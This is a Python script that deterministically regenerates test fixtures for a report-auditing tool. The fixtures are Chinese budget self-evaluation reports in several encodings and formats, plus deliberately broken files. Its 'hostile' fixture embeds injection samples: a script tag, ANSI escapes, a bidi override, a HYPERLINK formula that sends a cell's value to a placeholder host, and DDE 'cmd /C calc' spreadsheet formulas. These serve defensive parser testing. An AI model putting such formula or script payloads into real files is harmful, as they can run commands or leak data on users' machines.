"""Regenerate the non-UTF-8 and binary fixtures from UTF-8 sources, byte for byte the same.

Why a script: tests need a GBK .txt, a BOM .txt, a .docx, a .pdf and several broken files,
and these cannot be written (or reviewed) by hand. Everything comes from text kept in
fixtures/sources/ or in this file, and every output is deterministic (fixed zip timestamps,
fixed document metadata, reportlab's invariant mode, seeded random bytes), so re-running the
script leaves `git status` clean unless a source changed.

Run: /work/venv/bin/python scripts/make_fixtures.py [--check]
With --check nothing is written; the exit status says whether the committed files are current.
"""

from __future__ import annotations

import argparse
import datetime as dt
import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "fixtures"
SOURCES = FIXTURES / "sources"
REPORTS = FIXTURES / "reports"
BROKEN = FIXTURES / "broken"
HOSTILE = FIXTURES / "hostile"

FIXED_ZIP_TIME = (2024, 1, 1, 0, 0, 0)
FIXED_DATETIME = dt.datetime(2024, 1, 1, 0, 0, 0)


def source(name: str) -> str:
    """A UTF-8 source text from fixtures/sources/."""
    return (SOURCES / name).read_text(encoding="utf-8")


# --------------------------------------------------------------------------- text encodings


def gbk_report() -> bytes:
    """songxi_town_2022 in GBK, as older Windows tools save Chinese text."""
    return source("songxi_town_2022.txt").encode("gbk")


def bom_report() -> bytes:
    """hewan_culture_2023 as UTF-8 with BOM and CRLF line ends (Windows Notepad style)."""
    text = source("hewan_culture_2023.txt").replace("\n", "\r\n")
    return b"\xef\xbb\xbf" + text.encode("utf-8")


# --------------------------------------------------------------------------- zip helpers


def normalise_zip(data: bytes) -> bytes:
    """Rewrite a zip with fixed timestamps and attributes so its bytes are reproducible."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_ZIP_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = 0o644 << 16
            fixed.create_system = 0
            dst.writestr(fixed, src.read(info.filename))
    return out.getvalue()


def make_zip(members: dict[str, str]) -> bytes:
    """A small deterministic zip from name -> text members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, text in members.items():
            info = zipfile.ZipInfo(name, date_time=FIXED_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            info.create_system = 0
            zf.writestr(info, text.encode("utf-8"))
    return out.getvalue()


# --------------------------------------------------------------------------- docx

DOCX_TABLE: list[list[str | None]] = [
    ["类别", "项目", "全年预算（万元）", "全年支出（万元）", "执行率"],
    ["部门整体支出", "合计", "9,652.30", "9,418.37", "97.58%"],
    ["其中", "基本支出", "6,120.50", "6,120.50", "100.00%"],
    [None, "项目支出", "3,531.80", "3,297.87", "93.38%"],  # None: merged with the cell above
    ["说明", "项目支出执行率偏低，主要是医疗设备采购跨年度支付。", "", "", ""],  # merged right
]


def docx_report() -> bytes:
    """yunling_health_2023 as .docx: heading styles, one merged-cell table, bookmark artefacts.

    Source lines starting "#H1 "/"#H2 " become "Heading 1"/"Heading 2" paragraphs; "#TABLE"
    becomes DOCX_TABLE with a vertical merge (其中) and a horizontal merge (说明 row).
    """
    import docx

    document = docx.Document()
    props = document.core_properties
    props.author = "reportaudit fixtures"
    props.last_modified_by = "reportaudit fixtures"
    props.created = FIXED_DATETIME
    props.modified = FIXED_DATETIME
    props.last_printed = FIXED_DATETIME
    props.revision = 1
    props.title = ""

    for line in source("yunling_health_2023.txt").splitlines():
        if line.startswith("#H1 "):
            document.add_heading(line[4:], level=1)
        elif line.startswith("#H2 "):
            document.add_heading(line[4:], level=2)
        elif line == "#TABLE":
            rows, cols = len(DOCX_TABLE), len(DOCX_TABLE[0])
            table = document.add_table(rows=rows, cols=cols)
            for r, row in enumerate(DOCX_TABLE):
                for c, value in enumerate(row):
                    if value:
                        table.cell(r, c).text = value
            table.cell(2, 0).merge(table.cell(3, 0))
            table.cell(4, 1).merge(table.cell(4, cols - 1))
        else:
            document.add_paragraph(line)
    buf = io.BytesIO()
    document.save(buf)
    return normalise_zip(buf.getvalue())


def corrupt_docx() -> bytes:
    """The docx cut off at 60%: the zip's central directory is missing."""
    data = docx_report()
    return data[: len(data) * 6 // 10]


# --------------------------------------------------------------------------- pdf

PDF_FONT = "STSong-Light"
PDF_RUNNING_HEADER = "青川县水利局2022年度部门整体支出绩效自评报告"


def _pdf_canvas(buf: io.BytesIO, pagesize: tuple[float, float], **kwargs: Any) -> Any:
    """A reportlab canvas in invariant mode (fixed dates and ids) with the CJK font ready."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont(PDF_FONT))
    c = canvas.Canvas(buf, pagesize=pagesize, invariant=1, pageCompression=0, **kwargs)
    c.setCreator("reportaudit fixtures")
    c.setProducer("reportaudit fixtures")
    c.setAuthor("reportaudit fixtures")
    return c


def _wrap(text: str, width: float, size: float) -> list[str]:
    """Break text into lines that fill ``width`` points, measured with the PDF font."""
    from reportlab.pdfbase.pdfmetrics import stringWidth

    lines: list[str] = []
    current = ""
    for ch in text:
        if current and stringWidth(current + ch, PDF_FONT, size) > width:
            lines.append(current)
            current = ch
        else:
            current += ch
    if current:
        lines.append(current)
    return lines


def pdf_report() -> bytes:
    """qingchuan_water_2022 as a multi-page A5 PDF with a running header and "- N -" footers.

    Body paragraphs (source lines starting with two ideographic spaces) are indented by two
    characters and wrapped at the right margin, as a word processor would; the indent is an
    x offset, not space characters, as in real exports.
    """
    from reportlab.lib.pagesizes import A5
    from reportlab.pdfbase.pdfmetrics import stringWidth

    size, leading, margin = 11.0, 17.0, 48.0
    page_w, page_h = A5
    text_w = page_w - 2 * margin
    buf = io.BytesIO()
    c = _pdf_canvas(buf, A5)
    lines = source("qingchuan_water_2022.txt").splitlines()

    page = 1
    y = 0.0

    def start_page() -> None:
        """Draw the running header and the "- N -" footer, reset y to the top."""
        nonlocal y
        c.setFont(PDF_FONT, 8)
        c.drawCentredString(page_w / 2, page_h - 28, PDF_RUNNING_HEADER)
        c.drawCentredString(page_w / 2, 22, f"- {page} -")
        y = page_h - margin - 10

    def emit(x: float, text: str) -> None:
        """Draw one body line at x, starting a new page when the current one is full."""
        nonlocal y, page
        if y < margin:
            c.showPage()
            page += 1
            start_page()
        c.setFont(PDF_FONT, size)
        c.drawString(x, y, text)
        y -= leading

    start_page()
    for i, line in enumerate(lines):
        if i < 2:  # unit name and title, centred
            c.setFont(PDF_FONT, 14)
            c.drawCentredString(page_w / 2, y, line)
            y -= 24
            continue
        if line.startswith("　　"):
            body = line[2:]
            indent = 2 * stringWidth("中", PDF_FONT, size)
            first, *rest = _wrap(body, text_w - indent, size) or [""]
            emit(margin + indent, first)
            for part in _wrap("".join(rest), text_w, size):
                emit(margin, part)
        else:
            for part in _wrap(line, text_w, size):
                emit(margin, part)
    c.showPage()
    c.save()
    return buf.getvalue()


def scanned_pdf() -> bytes:
    """A PDF page with only drawn shapes, like a scan: no text layer at all."""
    from reportlab.lib.pagesizes import A5

    buf = io.BytesIO()
    c = _pdf_canvas(buf, A5)
    c.setFillGray(0.85)
    c.rect(48, 300, 320, 200, fill=1, stroke=0)
    for k in range(12):
        c.line(60, 480 - 14 * k, 350, 480 - 14 * k)
    c.showPage()
    c.save()
    return buf.getvalue()


def encrypted_pdf() -> bytes:
    """A text PDF that needs a user password ("secret") to open."""
    from reportlab.lib import pdfencrypt
    from reportlab.lib.pagesizes import A5

    buf = io.BytesIO()
    enc = pdfencrypt.StandardEncryption("secret", ownerPassword="owner", strength=40)
    c = _pdf_canvas(buf, A5, encrypt=enc)
    c.setFont(PDF_FONT, 12)
    c.drawString(48, 500, "青川县水利局")
    c.showPage()
    c.save()
    return buf.getvalue()


# --------------------------------------------------------------------------- other broken


def fake_txt() -> bytes:
    """4 KiB of seeded random bytes named .txt."""
    return random.Random(20240101).randbytes(4096)


def legacy_doc() -> bytes:
    """An OLE2 compound file header with a "WordDocument" directory entry, like a .doc."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:26] = struct.pack("<H", 0x003E)  # minor version
    header[26:28] = struct.pack("<H", 0x0003)  # major version 3
    header[28:30] = struct.pack("<H", 0xFFFE)  # little-endian byte order mark
    header[30:32] = struct.pack("<H", 9)  # 512-byte sectors
    header[32:34] = struct.pack("<H", 6)  # 64-byte mini sectors
    directory = bytearray(512)
    for slot, name in enumerate(["Root Entry", "WordDocument", "1Table"]):
        entry = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        entry[0 : len(encoded)] = encoded
        entry[64:66] = struct.pack("<H", len(encoded))
        entry[66] = 5 if slot == 0 else 2
        directory[slot * 128 : (slot + 1) * 128] = entry
    return bytes(header) + bytes(directory) + bytes(512)


def xlsx_like() -> bytes:
    """A zip laid out like an Excel workbook (no word/document.xml)."""
    return make_zip(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
            "xl/workbook.xml": '<?xml version="1.0"?><workbook/>',
            "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet/>',
        }
    )


def tiny_png() -> bytes:
    """A valid 1x1 grey PNG: an image someone exported instead of the report."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        """A PNG chunk: length, type, payload, CRC."""
        crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00\x80", 9))
        + chunk(b"IEND", b"")
    )


def blank_txt() -> bytes:
    """Only whitespace, an invisible character and a converter artefact: empty after cleaning."""
    return "\n   \n[bookmark: _GoBack]\n\u200b\u3000\n\t\n".encode()


# --------------------------------------------------------------------------- hostile

HOSTILE_TEXT = (
    "河湾市市场监督管理局\n"
    "2023年度项目支出绩效自评报告\n"
    "\n"
    "一、部门基本情况\n"
    "（一）部门职能\n"
    "河湾市市场监督管理局负责全市市场主体登记、食品药品安全监管、产品质量监督和知识产权"
    "保护工作。[bold]x[/bold]\n"
    "（二）机构设置及人员情况\n"
    "局机关设11个科室，在编人员203人。[link=http://x]详见附件[/link]\n"
    "二、绩效自评工作开展情况\n"
    "本次自评覆盖食品安全抽检和计量检定设备更新2个项目，资金合计640.00万元。"
    "\x1b[31m自评工作按期完成。\x1b[0m\n"
    "三、预算执行情况\n"
    "全年支出618.24万元，预算执行率96.60%。<script>alert(1)</script>\n"
    "四、绩效目标完成情况\n"
    "1.完成食品安全监督抽检3,600批次，不合格样品核查处置率100%。\n"
    '=HYPERLINK("http://x.invalid/?q="&A1,"点击查看")\n'
    "2.更新计量检定标准装置14套，检定能力覆盖率达到95%。\n"
    "五、存在的问题\n"
    "抽检样品的区域分布不够均衡，农村集贸市场覆盖偏少。\u200b\u202e反转文字\u202c\n"
    "六、偏离绩效目标的原因及下一步改进措施\n"
    "计量设备进口部件到货延迟，1套装置于次年1月完成安装。下一步将提前启动采购。\n"
    "七、绩效自评结果拟应用和公开情况\n"
    "自评结果在局门户网站公开。+cmd|' /C calc'!A0\n"
    "@SUM(1+1)*cmd|' /C calc'!A0\n"
)


def hostile_txt() -> bytes:
    """A valid report whose text carries markup, escapes and spreadsheet formulas."""
    return HOSTILE_TEXT.encode("utf-8")


# --------------------------------------------------------------------------- registry

OUTPUTS: dict[Path, Callable[[], bytes]] = {
    REPORTS / "songxi_town_2022_gbk.txt": gbk_report,
    REPORTS / "hewan_culture_2023_bom.txt": bom_report,
    REPORTS / "yunling_health_2023.docx": docx_report,
    REPORTS / "qingchuan_water_2022.pdf": pdf_report,
    BROKEN / "empty.txt": lambda: b"",
    BROKEN / "blank.txt": blank_txt,
    BROKEN / "fake.txt": fake_txt,
    BROKEN / "corrupt.docx": corrupt_docx,
    BROKEN / "scanned.pdf": scanned_pdf,
    BROKEN / "encrypted.pdf": encrypted_pdf,
    BROKEN / "legacy.doc": legacy_doc,
    BROKEN / "sheet.xlsx": xlsx_like,
    BROKEN / "image.png": tiny_png,
    HOSTILE / "hostile.txt": hostile_txt,
}


def main(argv: list[str] | None = None) -> int:
    """Write (or with --check, compare) every generated fixture; return a process status."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="only report stale files")
    args = parser.parse_args(argv)
    stale = 0
    for path, build in OUTPUTS.items():
        data = build()
        current = path.read_bytes() if path.exists() else None
        if current == data:
            continue
        stale += 1
        if args.check:
            print(f"stale: {path.relative_to(ROOT)}")
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            print(f"wrote: {path.relative_to(ROOT)} ({len(data)} bytes)")
    return 1 if (args.check and stale) else 0


if __name__ == "__main__":
    sys.exit(main())
